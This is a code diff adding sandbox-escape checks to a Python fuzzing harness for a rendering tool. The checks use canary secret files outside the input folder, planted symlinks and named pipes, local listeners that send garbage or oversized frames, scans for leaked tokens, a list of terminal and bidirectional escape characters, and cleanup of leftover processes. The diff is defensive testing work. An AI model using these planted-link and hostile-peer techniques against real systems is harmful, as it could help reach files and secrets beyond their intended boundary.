+    else:  # a huge environment map
+        if HUGE_ENVMAP not in _HUGE_ENVMAPS:
+            _HUGE_ENVMAPS[HUGE_ENVMAP] = _exr(np.ones((*HUGE_ENVMAP, 3), np.float32))
+        inp.files["huge.exr"] = _HUGE_ENVMAPS[HUGE_ENVMAP]
+        inp.files["scene.toml"] = assets.texts["sky.toml"].replace('"sky.exr"', '"huge.exr"').encode()
+        inp.max_mib = 256  # a 16 x 16 render: the map is refused, or its cost bounded, not 400 MB of floats
+    what = rng.random()
+    if what < 0.55:
+        inp.call = ["load_scene", "scene.toml"]
+        inp.names = ["scene.toml"]
+    elif what < 0.85:
+        inp.call = ["cli", "render", "scene.toml", "--spp", "1", "--out", "out.exr", "--quiet"]
+        if "huge.exr" in inp.files:
+            inp.call += ["--set", "threads=1"]
+    else:
+        inp.call = ["cli", "export", "scene.toml", "--format", rng.choice(["obj", "gltf", "mitsuba-xml", "ply"]),
+                    "--out", "exp"]
+    return inp
+
+
 COMMANDS = ["render", "ground-truth", "compare", "run", "baseline", "report", "convergence", "calibrate", "export",
             "bench", "stress"]
 
@@ -1543,11 +1991,15 @@ def gen_cli(rng, assets, index) -> Input:
 
 
 GENERATORS = {  # entry point: (generator, weight); the weights sum to 10,000
-    "load_scene": (gen_load_scene, 1500), "render": (gen_render, 1200), "load_suite": (gen_load_suite, 1300),
-    "run": (gen_run, 700), "renderer_file": (gen_renderer_file, 900), "report": (gen_report, 600),
-    "baseline": (gen_baseline, 600), "compare": (gen_compare, 1100), "ground_truth": (gen_ground_truth, 400),
-    "convergence": (gen_convergence, 350), "calibrate": (gen_calibrate, 250), "stress": (gen_stress, 350),
-    "export": (gen_export, 400), "bench": (gen_bench, 150), "cli": (gen_cli, 200),
+    "load_scene": (gen_load_scene, 1100), "render": (gen_render, 1000), "load_suite": (gen_load_suite, 1000),
+    "run": (gen_run, 600), "renderer_file": (gen_renderer_file, 700), "report": (gen_report, 500),
+    "baseline": (gen_baseline, 500), "compare": (gen_compare, 900), "ground_truth": (gen_ground_truth, 300),
+    "convergence": (gen_convergence, 250), "calibrate": (gen_calibrate, 250), "stress": (gen_stress, 250),
+    "export": (gen_export, 300), "bench": (gen_bench, 150), "cli": (gen_cli, 200),
+    # untrusted run folders, output folders and peers: nothing may reach outside the input's folder
+    "results_paths": (gen_results_paths, 500), "planted_links": (gen_planted_links, 400),
+    "hostile_peers": (gen_hostile_peers, 200), "misbehaving_renderers": (gen_misbehaving_renderers, 400),
+    "mesh_references": (gen_mesh_references, 500),
 }
 
 
@@ -1572,6 +2024,294 @@ def generate(seed: int, entry: str, index: int, assets: Assets) -> Input:
 
 
 # ---------------------------------------------------------------------------------------------------------------
+# Outside the input: canaries, the state of the outside folder, planted links, leftover processes, hostile peers
+
+#: what a script a hostile run folder ships would hold (found in a file the input wrote: ``copied``)
+PAYLOAD = "FUZZ-PAYLOAD-5e1f"
+#: the environment variable that holds an input's canary token, set in the forked child: every process the input
+#: starts inherits it (a copy of its /proc/PID/environ holds it; it finds the processes left behind)
+CANARY_VARIABLE = "FUZZ_CANARY"
+#: the environment variable that holds the whole run's canary token, set before this script's interpreter started
+#: (``main`` starts it again with it): the children's own /proc/self/environ holds it, as forks share that block
+RUN_CANARY_VARIABLE = "FUZZ_RUN_CANARY"
+#: terminal escapes: ESC and the bidirectional overrides and isolates (a renderer's output must not reach a terminal
+#: raw)
+RAW_ESCAPES = ("\x1b", *map(chr, range(0x202a, 0x202f)), *map(chr, range(0x2066, 0x206a)))
+#: the most bytes of one written file, the most files, and the most bytes in all searched for canary tokens
+SCAN_BYTES, SCAN_FILES, SCAN_TOTAL = 4 * 2**20, 400, 64 * 2**20
+#: the listeners an input's call may name as ``@PEER:KIND@`` (ports filled in by :func:`start_peers`)
+PEERS: dict[str, int] = {}
+PEER_KINDS = ("garbage", "http", "silent", "close", "huge", "refused")
+
+
+@dataclasses.dataclass(frozen=True)
+class Canary:
+    """An input's two random tokens: ``secret`` in the files of its ``outside`` folder, ``env`` in its environment."""
+
+    secret: str
+    env: str
+
+    @classmethod
+    def new(cls) -> Canary:
+        return cls(f"secret-{os.urandom(12).hex()}", f"env-{os.urandom(12).hex()}")
+
+    def tokens(self) -> dict[str, bytes]:
+        tokens = {"the outside secret": self.secret.encode(), "the environment canary": self.env.encode(),
+                  "the run folder's script payload": PAYLOAD.encode()}
+        if os.environ.get(RUN_CANARY_VARIABLE):
+            tokens["the run's environment canary"] = os.environ[RUN_CANARY_VARIABLE].encode()
+        return tokens
+
+
+def resolve(text: str, folder: Path) -> str:
+    """``text`` with the placeholders an input may hold filled in: ``@OUTSIDE@`` (the sibling folder of files the
+    input must not reach), ``@INPUT@`` (the input's folder) and ``@PEER:KIND@`` (a hostile listener's port)."""
+    if "@" not in text:
+        return text
+    text = text.replace("@OUTSIDE@", str(folder.parent / "outside")).replace("@INPUT@", str(folder))
+    for kind, port in PEERS.items():
+        text = text.replace(f"@PEER:{kind}@", str(port))
+    return text
+
+
+def make_outside(folder: Path, canary: Canary) -> None:
+    """The input's sibling folder ``outside``: secrets (text, and behind a PNG's and an EXR's magic number) whose
+    last access time lies before their change time (a read moves it, relatime), a victim file and a victim folder."""
+    outside = folder.parent / "outside"
+    outside.mkdir(parents=True, exist_ok=True)
+    secret = canary.secret.encode()
+    files = {"secret.txt": b"secret " + secret + b"\n", "secret.png": b"\x89PNG\r\n\x1a\n" + secret,
+             "secret.exr": b"\x76\x2f\x31\x01" + secret + b"\0" * 64, "victim.txt": b"a victim: keep me as I am\n"}
+    for name, data in files.items():
+        (outside / name).write_bytes(data)
+    (outside / "victim-dir").mkdir(exist_ok=True)
+    (outside / "victim-dir" / "keep.txt").write_bytes(b"keep\n")
+    for name in files:
+        if name.startswith("secret"):
+            mtime = (outside / name).stat().st_mtime_ns
+            os.utime(outside / name, ns=(mtime - 10**12, mtime))
+
+
+def _tree(root: Path, skip: Path | None = None) -> dict[str, tuple]:
+    """Every entry below ``root`` (links not followed, ``skip``'s subtree left out): relative name -> (type, size,
+    mtime, link target, access time of a secret)."""
+    state = {}
+    for top, dirs, files in os.walk(root):
+        if skip is not None and Path(top) == skip.parent:
+            dirs[:] = [d for d in dirs if d != skip.name]
+        for name in dirs + files:
+            path = Path(top) / name
+            if skip is not None and path == skip:
+                continue
+            try:
+                st = os.lstat(path)
+                target = os.readlink(path) if stat.S_ISLNK(st.st_mode) else None
+            except OSError:
+                continue
+            atime = st.st_atime_ns if name.startswith("secret") else None
+            state[str(path.relative_to(root))] = (stat.S_IFMT(st.st_mode), st.st_size, st.st_mtime_ns, target, atime)
+    return state
+
+
+@dataclasses.dataclass
+class Watch:
+    """What an input's call must leave alone, seen before it runs: the box around its folder (``outside``, copies
+    beside the folder), the victim's bytes, the links planted in the folder, and the folder's own files."""
+
+    box: Path
+    folder: Path
+    canary: Canary
+    outside: dict[str, tuple]
+    victim: bytes
+    links: dict[str, str | None]
+    inside: dict[str, tuple]
+
+    @classmethod
+    def before(cls, inp: Input, folder: Path, canary: Canary) -> Watch:
+        box = folder.parent
+        links = {name: _readlink(folder / name) for name in inp.links}
+        return cls(box, folder, canary, _tree(box, skip=folder), _read_bytes(box / "outside" / "victim.txt"), links,
+                   _tree(folder))
+
+    def findings(self, stdout: str = "", stderr: str = "") -> dict[str, list[str]]:
+        """{"link_write": [...], "escape": [...], "copied": [...], "removed_link": [...]}: what changed or was read
+        outside (through a planted link: link_write), planted links turned elsewhere (escape) or removed (a hint),
+        and which files the call wrote hold a canary token (raw or in base64) or are links out (copied)."""
+        found = {"link_write": [], "escape": [], "copied": [], "read": [], "removed_link": []}
+        targets = {}
+        for name, target in self.links.items():
+            now = _readlink(self.folder / name)
+            if now is None:  # removed, or replaced by the command's own file: nothing outside changes (a hint)
+                found["removed_link"].append(name)
+            elif now != target:
+                found["escape"].append(f"planted link {name} turned to {now}")
+            if target:
+                resolved = Path(target) if os.path.isabs(target) else (self.folder / name).parent / target
+                targets[name] = os.path.normpath(resolved)
+        after = _tree(self.box, skip=self.folder)
+        changed = sorted(set(after) | set(self.outside))
+        for rel in changed:
+            old, new = self.outside.get(rel), after.get(rel)
+            if old == new:
+                continue
+            what = "created" if old is None else "removed" if new is None else \
+                "read" if old[:4] == new[:4] else "changed"
+            path = os.path.normpath(self.box / rel)
+            through = [n for n, t in targets.items() if path == t or path.startswith(t + os.sep)]
+            kind = "read" if what == "read" else "link_write" if through else "escape"
+            found[kind].append(f"{rel} {what}" + (f" through the planted link {through[0]}" if through else ""))
+        if _read_bytes(self.box / "outside" / "victim.txt") != self.victim and not found["link_write"]:
+            found["escape"].append("outside/victim.txt's bytes changed")
+        inside = _tree(self.folder)
+        for rel, entry in inside.items():
+            if entry[0] == stat.S_IFLNK and rel not in self.inside:
+                resolved = os.path.normpath((self.folder / rel).parent / entry[3])
+                if not (resolved + os.sep).startswith(str(self.folder) + os.sep):
+                    found["copied"].append(f"{rel}: a link written to {entry[3]}, outside the folder")
+        written = [rel for rel, entry in inside.items() if entry[0] == stat.S_IFREG and self.inside.get(rel) != entry]
+        tokens = self.canary.tokens()
+        budget = SCAN_TOTAL
+        for rel in sorted(written)[:SCAN_FILES]:
+            data = _read_bytes(self.folder / rel, min(SCAN_BYTES, budget))
+            budget -= len(data)
+            found["copied"] += [f"{rel} holds {what}" for what, token in tokens.items()
+                                if any(form in data for form in _forms(token))]
+        for stream, text in (("stdout", stdout), ("stderr", stderr)):
+            found["copied"] += [f"{stream} holds {what}" for what, token in tokens.items()
+                                if token.decode() in text and token != PAYLOAD.encode()]
+        return found
+
+
+def _forms(token: bytes) -> list[bytes]:
+    """``token`` as it may sit in a written file: raw, or inside base64 (a data URI) at any of the three offsets
+    (the characters that depend on the neighbours left out)."""
+    forms = [token]
+    for shift in range(3):
+        encoded = base64.b64encode(b"\0" * shift + token)
+        forms.append(encoded[4 if shift else 0:-4])
+    return forms
+
+
+def _readlink(path: Path) -> str | None:
+    try:
+        return os.readlink(path)
+    except OSError:
+        return None
+
+
+def _read_bytes(path: Path, limit: int = 2**20) -> bytes:
+    try:
+        with open(path, "rb") as f:
+            return f.read(limit)
+    except OSError:
+        return b""
+
+
+def marked_processes(marker: str) -> list[int]:
+    """The living processes whose environment holds ``marker`` (an input's canary: every process it started)."""
+    needle = f"{CANARY_VARIABLE}={marker}".encode()
+    found = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit() or int(entry) == os.getpid():
+            continue
+        try:
+            with open(f"/proc/{entry}/environ", "rb") as f:
+                if needle in f.read():
+                    found.append(int(entry))
+        except OSError:
+            continue
+    return found
+
+
+def leftover_processes(canary: Canary, patience: float = 0.5) -> list[str]:
+    """The processes an input started that are still alive after it ended (given ``patience`` seconds to go, as
+    one killed a moment ago may still be leaving); each is killed. Returns their command lines."""
+    deadline = time.monotonic() + patience
+    found = marked_processes(canary.env)
+    while found and time.monotonic() < deadline:
+        time.sleep(0.05)
+        found = marked_processes(canary.env)
+    names = []
+    for pid in found:
+        names.append(_read_bytes(Path(f"/proc/{pid}/cmdline"), 300).replace(b"\0", b" ").decode("utf-8", "replace"))
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except (ProcessLookupError, PermissionError):
+            pass
+    return names
+
+
+def raw_escapes(text: str) -> list[str]:
+    """The terminal escapes (ESC, bidirectional overrides) in ``text``, as their code points."""
+    return sorted({f"U+{ord(c):04X}" for c in RAW_ESCAPES if c in text})
+
+
+PEER_SERVER = r'''
+import asyncio, json, os, struct, sys
+
+async def drain(reader, seconds):
+    try:
+        async with asyncio.timeout(seconds):
+            while await reader.read(65536):
+                pass
+    except BaseException:
+        pass
+
+def handler(kind):
+    async def handle(reader, writer):
+        try:
+            if kind == "close":
+                return
+            if kind == "garbage":
+                writer.write(bytes(range(256)) * 8 + os.urandom(2048))
+            elif kind == "http":
+                writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 13\r\n\r\n<html></html>")
+            elif kind == "huge":
+                writer.write(struct.pack("<QQQ", 2**62, 2**62, 2**40) + b"\xff" * 40)
+            await writer.drain()
+            await drain(reader, 90 if kind == "silent" else 5)
+        except BaseException:
+            pass
+        finally:
+            writer.close()
+    return handle
+
+async def main():
+    ports = {}
+    for kind in sys.argv[1].split(","):
+        server = await asyncio.start_server(handler(kind), "127.0.0.1", 0)
+        ports[kind] = server.sockets[0].getsockname()[1]
+    print(json.dumps(ports), flush=True)
+    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
+
+asyncio.run(main())
+'''
+
+
+def start_peers():
+    """Start the hostile listeners (a process of their own, so that this one stays single-threaded for its forks):
+    garbage, an HTTP answer, silence, a close at once, a huge frame length; and a port where nothing listens. Fills
+    :data:`PEERS`; returns the process (stop it with :func:`stop_peers`)."""
+    kinds = [k for k in PEER_KINDS if k != "refused"]
+    proc = subprocess.Popen([sys.executable, "-c", PEER_SERVER, ",".join(kinds)], stdin=subprocess.PIPE,
+                            stdout=subprocess.PIPE, start_new_session=True)
+    PEERS.update(json.loads(proc.stdout.readline()))
+    with socket.socket() as sock:  # a port that was free a moment ago: refused
+        sock.bind(("127.0.0.1", 0))
+        PEERS["refused"] = sock.getsockname()[1]
+    return proc
+
+
+def stop_peers(proc) -> None:
+    try:
+        proc.stdin.close()
+        proc.wait(timeout=5)
+    except Exception:  # noqa: BLE001 - a peer that will not go is killed
+        proc.kill()
+    PEERS.clear()
+
+
+# ---------------------------------------------------------------------------------------------------------------
 # Running one input in a forked child
 
 
@@ -1583,21 +2323,38 @@ class Limits:
     mitsuba: bool = False
 
 
-def materialize(inp: Input, folder: Path, assets: Assets) -> None:
-    """Write the input's folder."""
-    if folder.exists():
-        shutil.rmtree(folder)
+def materialize(inp: Input, folder: Path, assets: Assets, canary: Canary | None = None) -> None:
+    """Write the input's folder, and beside it the folder ``outside`` (:func:`make_outside`); plant its named pipes
+    and links. Placeholders in the files and link targets are filled in (:func:`resolve`)."""
+    for path in (folder, folder.parent / "outside"):
+        if path.exists():
+            shutil.rmtree(path)
     folder.mkdir(parents=True)
+    make_outside(folder, canary or Canary.new())
     for name in inp.dirs:
         (folder / name).mkdir(parents=True, exist_ok=True)
     for name, data in inp.files.items():
         path = folder / name
         path.parent.mkdir(parents=True, exist_ok=True)
+        if b"@OUTSIDE@" in data or b"@INPUT@" in data:
+            data = resolve(data.decode("utf-8", "surrogateescape"), folder).encode("utf-8", "surrogateescape")
         path.write_bytes(data)
+    for name in inp.fifos:
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        os.mkfifo(folder / name)
+    for name, target in inp.links.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        os.symlink(resolve(target, folder), folder / name)
     for name, asset in inp.copies.items():
         target = (folder / name).resolve()
         if not target.exists():
             target.write_bytes(assets.blobs[asset])
+
+
+def _resident_mib() -> float:
+    """This process's resident size in MiB (a forked child starts with it)."""
+    with open("/proc/self/statm") as f:
+        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20
 
 
 def _address_space() -> int:
@@ -1650,7 +2407,7 @@ def _loader(kind: str):
     return {"load_scene": load_scene, "load_suite": load_suite, "load_spec": load_spec}[kind]
 
 
-def _child(inp: Input, folder: Path, capture: Path, limits: Limits) -> None:
+def _child(inp: Input, folder: Path, capture: Path, limits: Limits, canary: Canary | None = None) -> None:
     """In the forked child: isolate, run, record, and leave without running the parent's exit handlers."""
     status = 70
     try:
@@ -1670,6 +2427,7 @@ def _child(inp: Input, folder: Path, capture: Path, limits: Limits) -> None:
                                       line_buffering=True)
         for name in ("HARNESS_DEBUG", "HARNESS_ALLOW_OUTSIDE_PATHS"):
             os.environ.pop(name, None)
+        os.environ[CANARY_VARIABLE] = (canary or Canary.new()).env
         signal.signal(signal.SIGINT, signal.default_int_handler)
         signal.signal(signal.SIGTERM, signal.SIG_DFL)
         _apply_limits(limits)
@@ -1678,13 +2436,17 @@ def _child(inp: Input, folder: Path, capture: Path, limits: Limits) -> None:
         sys.modules["__main__"] = types.ModuleType("__main__")
         faulthandler.dump_traceback_later(max(1.0, limits.timeout - 2), file=sys.stderr)  # where a hang hangs
         try:
-            result = call(inp.call)
+            result = call([resolve(arg, folder) for arg in inp.call])
         except BaseException:  # noqa: BLE001 - whatever escapes is the finding
             result = {"exception": traceback.format_exc()}
             print(result["exception"], file=sys.stderr, end="")  # as the interpreter would
         sys.stdout.flush()
         sys.stderr.flush()
-        _kill_descendants(os.getpid())  # a worker pool's forkserver has its own process group and would stay
+        gc.collect()  # what the call left (a renderer's output held in memory) may fill the address space
+        try:
+            _kill_descendants(os.getpid())  # a worker pool's forkserver has its own process group and would stay
+        except OSError:  # /proc unreadable for want of memory: the run's own cleanup (the group) still follows
+            pass
         capture.with_suffix(".json").write_text(json.dumps(result))
         status = 0
     except BaseException:  # noqa: BLE001
@@ -1709,6 +2471,13 @@ def classify(inp: Input, result: dict | None, stdout: str, stderr: str, *, timed
     text = stdout + stderr
     if "Traceback (most recent call last)" in text:
         return "traceback", next((line for line in reversed(stderr.splitlines()) if line.strip()), "Traceback")
+    symptoms = [symptom for symptom in inp.symptoms if symptom in text]
+    if symptoms:
+        return "messy", f"the output shows {symptoms[0]!r}: {text.strip()[-200:]}"
+    escapes = raw_escapes(text)
+    if escapes:
+        where = "stderr" if raw_escapes(stderr) else "stdout"
+        return "raw_escape", f"{where} holds {', '.join(escapes)} raw: {text[:160]!r}"
     if "harness_error" in result:
         message = result["harness_error"]
         if len(message.splitlines()) != 1 or len(message) > 2000:
@@ -1720,6 +2489,8 @@ def classify(inp: Input, result: dict | None, stdout: str, stderr: str, *, timed
     if "loaded" in result:
         return ("silent", "; ".join(inp.bad)) if inp.bad else ("pass", result["loaded"])
     rc = result["rc"]
+    if inp.succeeds and rc != 0:
+        return "messy", f"exit {rc} where {inp.succeeds}: {text.strip()[-200:]}"
     if rc == 2:
         lines = stderr.splitlines()
         if len(lines) != 1 or not lines[0].startswith("harness: error: ") or stdout.strip():
@@ -1727,10 +2498,30 @@ def classify(inp: Input, result: dict | None, stdout: str, stderr: str, *, timed
                             f"{(lines or [''])[-1][:200]}"
         return "error", lines[0]
     if rc in (0, 1):
+        lies = [lie for lie in inp.lies if lie in stdout]
+        if lies:
+            return "silent", f"exit {rc} claiming {lies[0]!r}; " + "; ".join(inp.bad)
+        if rc == 0 and inp.fails:
+            return "silent", "exit 0; " + "; ".join(inp.fails)
         if inp.bad:
             return "silent", f"exit {rc}; " + "; ".join(inp.bad)
         return "pass", f"exit {rc}"
     return "messy", f"exit code {rc}"
+
+
+#: what an input reached outside its folder (a finding of :meth:`Watch.findings`, or leftover processes) and its
+#: outcome, strongest first: they win over what the call printed (a file outside read is an escape)
+REACHED = (("link_write", "link_write"), ("escape", "escape"), ("copied", "copied"),
+           ("leftover_process", "leftover_process"), ("read", "escape"))
+
+
+def reach(outcome: str, detail: str, findings: dict[str, list[str]]) -> tuple[str, str]:
+    """The outcome once what the input reached is known: the first finding of :data:`REACHED`, its detail followed
+    by what the call itself ended in; else ``outcome`` as it was."""
+    for kind, reached in REACHED:
+        if findings.get(kind):
+            return reached, f"{'; '.join(findings[kind])[:400]} (the call: {outcome}, {detail[:200]})"
+    return outcome, detail
 
 
 def _nameable(inp: Input, message: str) -> list[str]:
@@ -1765,6 +2556,7 @@ class Record:
     detail: str
     seconds: float
     wrote_on_error: list[str]
+    removed_links: list[str] = dataclasses.field(default_factory=list)  # planted links the call removed (a hint)
 
 
 class Runner:
@@ -1785,34 +2577,38 @@ class Runner:
         while pending or running:
             while pending and len(running) < self.jobs:
                 inp = pending.pop()
-                folder = self.work / inp.id
+                folder = self.work / inp.id / "input"
                 capture = self.work / f"{inp.id}.capture"
-                materialize(inp, folder, self.assets)
+                canary = Canary.new()
+                materialize(inp, folder, self.assets, canary)
                 before = _listing(folder)
+                watch = Watch.before(inp, folder, canary)
                 sys.stdout.flush()
                 sys.stderr.flush()
                 pid = os.fork()
                 if pid == 0:
-                    _child(inp, folder, capture, self.limits)
+                    _child(inp, folder, capture, self.limits, canary)
                 try:
                     os.setpgid(pid, pid)
                 except OSError:  # the child did it first
                     pass
-                running[pid] = (inp, time.monotonic(), folder, capture, before)
+                running[pid] = (inp, time.monotonic(), folder, capture, (before, watch, _resident_mib()))
             finished = []
             for pid, (inp, start, folder, capture, before) in running.items():
-                done, status = os.waitpid(pid, os.WNOHANG)
+                done, status, usage = os.wait4(pid, os.WNOHANG)
                 timed_out = False
                 if not done and time.monotonic() - start > self.limits.timeout:
                     _kill_descendants(pid)
                     _kill_group(pid)
-                    done, status = os.waitpid(pid, 0)
+                    done, status, usage = os.wait4(pid, 0)
                     timed_out = True
                 if done:
+                    leftovers = leftover_processes(before[1].canary)  # before its process group goes
                     _kill_group(pid)  # leftovers: worker pools, renderer processes
                     finished.append(pid)
+                    added = usage.ru_maxrss / 1024 - before[2]  # the child's peak over what it shared at its fork
                     records.append(self._finish(inp, status, timed_out, time.monotonic() - start, folder, capture,
-                                                before))
+                                                before[:2], leftovers, added))
                     if on_record:
                         on_record(records[-1])
             for pid in finished:
@@ -1821,7 +2617,7 @@ class Runner:
                 time.sleep(0.003)
         return records
 
-    def _finish(self, inp, status, timed_out, seconds, folder, capture, before) -> Record:
+    def _finish(self, inp, status, timed_out, seconds, folder, capture, before, leftovers=(), added_mib=0.0) -> Record:
         paths = {kind: capture.with_suffix(f".{kind}") for kind in ("stdout", "stderr", "json")}
         stdout = _read(paths["stdout"])
         stderr = _read(paths["stderr"])
@@ -1830,14 +2626,21 @@ class Runner:
         except (OSError, ValueError):
             result = None
         signalled = os.WTERMSIG(status) if os.WIFSIGNALED(status) else None
+        before, watch = before
         outcome, detail = classify(inp, result, stdout, stderr, timed_out=timed_out, signalled=signalled)
+        if inp.max_mib and added_mib > inp.max_mib and outcome in ("pass", "error", "silent"):
+            outcome, detail = "messy", f"used {added_mib:.0f} MiB, over its {inp.max_mib} MiB ({outcome}, {detail})"
+        findings = watch.findings(stdout, stderr)
+        findings["leftover_process"] = [f"still running: {name}" for name in leftovers]
+        outcome, detail = reach(outcome, detail, findings)
+        removed = findings["removed_link"]
         wrote = []
         if outcome == "error" and inp.call[0] == "cli":
             wrote = sorted(_listing(folder) - before)
-        record = Record(inp, outcome, detail, seconds, wrote)
+        record = Record(inp, outcome, detail, seconds, wrote, removed)
         if outcome in FAILURES or self.keep_all:
             self._keep(record, folder, stdout, stderr, result)
-        shutil.rmtree(folder, ignore_errors=True)
+        shutil.rmtree(folder.parent, ignore_errors=True)
         for path in paths.values():
             path.unlink(missing_ok=True)
         return record
@@ -1852,7 +2655,7 @@ class Runner:
                                                          "seconds": record.seconds, "result": result}, indent=1))
         (target / "stdout").write_text(stdout)
         (target / "stderr").write_text(stderr)
-        (target / "replay.sh").write_text(replay_script(inp))
+        (target / "replay.sh").write_text(replay_script(inp, (target / "input").resolve()))
 
 
 def _descendants(pid: int) -> list[int]:
@@ -1898,10 +2701,11 @@ def _read(path: Path, limit: int = 200_000) -> str:
         return ""
 
 
-def replay_script(inp: Input) -> str:
+def replay_script(inp: Input, folder: Path = Path("input")) -> str:
+    """A shell script that runs the input's call in its saved ``folder`` (placeholders filled in for it)."""
     python = shlex.quote(sys.executable)
     if inp.call[0] == "cli":
-        command = f"{python} -m harness " + " ".join(shlex.quote(a) for a in inp.call[1:])
+        command = f"{python} -m harness " + " ".join(shlex.quote(resolve(a, folder)) for a in inp.call[1:])
     else:
         module = {"load_scene": "harness.scene", "load_suite": "harness.running.cases",
                   "load_spec": "harness.renderers.external"}[inp.call[0]]
@@ -1909,6 +2713,14 @@ def replay_script(inp: Input) -> str:
                                                 f"{inp.call[1]!r}))")
     return (f"#!/bin/sh\n# {inp.id}: bad because: {'; '.join(inp.bad) or '-'}\ncd \"$(dirname \"$0\")/input\" && "
             f"PYTHONPATH={shlex.quote(str(ROOT))} {command}\n")
+
+
+def _copy_entry(source: str, target: str) -> None:
+    """shutil.copytree's copy of one entry: a named pipe made again (opening it would wait for a writer)."""
+    if stat.S_ISFIFO(os.lstat(source).st_mode):
+        os.mkfifo(target)
+    else:
+        shutil.copy2(source, target)
 
 
 def replay(folder: Path) -> int:
@@ -1920,11 +2732,19 @@ def replay(folder: Path) -> int:
     print(f"bad because: {'; '.join(spec['bad']) or '-'}", file=sys.stderr)
     with tempfile.TemporaryDirectory(prefix="harness-replay-") as tmp:
         work = Path(tmp) / "input"
-        shutil.copytree(folder / "input", work, symlinks=True)
+        for name in ("input", "outside"):
+            if (folder / name).exists():
+                shutil.copytree(folder / name, Path(tmp) / name, symlinks=True, copy_function=_copy_entry)
+        saved = str(folder.resolve())
+        for link in [p for p in Path(tmp).rglob("*") if p.is_symlink()]:  # links into the saved copy: into this one
+            target = os.readlink(link)
+            if target == saved or target.startswith(saved + os.sep):
+                link.unlink()
+                os.symlink(tmp + target[len(saved):], link)
         cwd = os.getcwd()
         os.chdir(work)
         try:
-            result = call(spec["call"])
+            result = call([resolve(arg, work) for arg in spec["call"]])
         finally:
             os.chdir(cwd)
     print(f"result: {result}", file=sys.stderr)
@@ -1939,7 +2759,7 @@ def summarize(records: list[Record], seconds: float, settings: dict) -> dict:
     table = {}
     for record in records:
         row = table.setdefault(record.inp.entry, {"inputs": 0, **{o: 0 for o in OUTCOMES}, "refused_valid": 0,
-                                                  "wrote_on_error": 0, "seconds": 0.0})
+                                                  "wrote_on_error": 0, "removed_link": 0, "seconds": 0.0})
         row["inputs"] += 1
         row[record.outcome] += 1
         row["seconds"] += record.seconds
@@ -1947,7 +2767,10 @@ def summarize(records: list[Record], seconds: float, settings: dict) -> dict:
             row["refused_valid"] += 1
         if record.wrote_on_error:
             row["wrote_on_error"] += 1
-    total = {"inputs": 0, **{o: 0 for o in OUTCOMES}, "refused_valid": 0, "wrote_on_error": 0, "seconds": 0.0}
+        if record.removed_links:
+            row["removed_link"] += 1
+    total = {"inputs": 0, **{o: 0 for o in OUTCOMES}, "refused_valid": 0, "wrote_on_error": 0, "removed_link": 0,
+             "seconds": 0.0}
     for row in table.values():
         for key in total:
             total[key] += row[key]
@@ -1956,20 +2779,25 @@ def summarize(records: list[Record], seconds: float, settings: dict) -> dict:
     hints = [{"id": r.inp.id, "hint": "refused_valid" if r.outcome == "error" else "wrote_on_error",
               "detail": r.detail[:300], "wrote": r.wrote_on_error[:10], "call": r.inp.call}
              for r in records if r.outcome == "error" and ((r.inp.valid and not r.inp.bad) or r.wrote_on_error)]
+    hints += [{"id": r.inp.id, "hint": "removed_link", "detail": r.detail[:300], "removed": r.removed_links,
+               "call": r.inp.call} for r in records if r.removed_links]
     return {"settings": settings, "wall_seconds": seconds, "entries": table, "total": total, "failures": failures,
             "hints": hints}
 
 
 def format_table(summary: dict) -> str:
-    columns = ["inputs", "pass", "error", "traceback", "messy", "crash", "hang", "silent", "refused_valid",
-               "wrote_on_error", "seconds"]
-    header = f"{'entry point':15s}" + "".join(f"{c:>15s}" for c in columns)
+    columns = ["inputs", *OUTCOMES, "refused_valid", "wrote_on_error", "removed_link", "seconds"]
+    short = {"leftover_process": "leftover", "refused_valid": "refused_ok", "wrote_on_error": "wrote_err",
+             "removed_link": "unlinked",
+             "link_write": "link_wr", "raw_escape": "raw_esc", "traceback": "tracebk"}
+    width = {c: max(7, len(short.get(c, c))) + 1 for c in columns}
+    header = f"{'entry point':22s}" + "".join(f"{short.get(c, c):>{width[c]}s}" for c in columns)
     rows = [header, "-" * len(header)]
     for name, row in sorted(summary["entries"].items()) + [("TOTAL", summary["total"])]:
-        rows.append(f"{name:15s}" + "".join(f"{row[c]:>15.0f}" if c == "seconds" else f"{row[c]:>15d}"
-                                            for c in columns))
-    rows.append(f"wall time {summary['wall_seconds']:.0f} s; failures (traceback, messy, crash, hang, silent): "
-                f"{sum(summary['total'][o] for o in FAILURES)}")
+        rows.append(f"{name:22s}" + "".join(f"{row.get(c, 0):>{width[c]}.0f}" if c == "seconds" else
+                                            f"{row.get(c, 0):>{width[c]}d}" for c in columns))
+    rows.append(f"wall time {summary['wall_seconds']:.0f} s; failures ({', '.join(FAILURES)}): "
+                f"{sum(summary['total'].get(o, 0) for o in FAILURES)}")
     return "\n".join(rows)
 
 
@@ -1985,6 +2813,7 @@ def fuzz(out: Path, inputs: int = 10_000, seed: int = 0, only: list[str] | None 
     gc.freeze()  # the children's garbage collections then leave this process's objects (and their pages) alone
     runner = Runner(out, assets, limits, jobs=jobs, keep_all=keep_all)
     jobs_planned = plan(inputs, only)
+    peers = start_peers() if any(entry == "hostile_peers" for entry, _ in jobs_planned) else None
     progress = Counter()
 
     def on_record(record: Record) -> None:
@@ -1997,7 +2826,11 @@ def fuzz(out: Path, inputs: int = 10_000, seed: int = 0, only: list[str] | None 
                   flush=True)
 
     inputs_iter = (generate(seed, entry, index, assets) for entry, index in jobs_planned)
-    records = runner.run(inputs_iter, on_record)
+    try:
+        records = runner.run(inputs_iter, on_record)
+    finally:
+        if peers:
+            stop_peers(peers)
     settings = {"inputs": inputs, "seed": seed, "only": only, "jobs": jobs, **dataclasses.asdict(limits)}
     summary = summarize(records, time.monotonic() - start, settings)
     (out / "summary.json").write_text(json.dumps(summary, indent=1, default=str))
@@ -2020,6 +2853,9 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--replay", metavar="FOLDER", help="run one saved input (OUT/failures/ID) in this process")
     parser.add_argument("--quiet", action="store_true")
     args = parser.parse_args(argv)
+    if not os.environ.get(RUN_CANARY_VARIABLE) and argv is None:  # in the block the children's /proc/self/environ
+        os.environ[RUN_CANARY_VARIABLE] = f"run-{os.urandom(12).hex()}"  # shows: this interpreter, started again
+        os.execv(sys.executable, [sys.executable, *sys.argv])
     if args.replay:
